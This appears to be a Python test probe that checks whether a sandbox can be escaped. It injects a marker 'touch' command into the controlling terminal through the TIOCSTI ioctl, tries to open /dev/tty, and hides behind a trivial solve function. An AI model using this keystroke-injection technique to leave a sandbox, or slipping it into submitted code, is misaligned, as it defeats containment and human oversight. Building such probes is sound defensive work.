"""TIOCSTI keystroke injection into a controlling terminal (the classic sandbox escape), and /dev/tty."""
# tags: escape
import fcntl, os, termios
for fd in (0, 1, 2):
    try:
        for ch in "touch /tmp/cogumi-escape-%s-tty\n" % TOKEN:
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
        escaped(f"TIOCSTI on fd {fd}")
    except Exception:
        pass
try:
    fd = os.open("/dev/tty", os.O_RDWR)
    escaped("opened /dev/tty")
except Exception:
    pass
def solve(x):
    return x
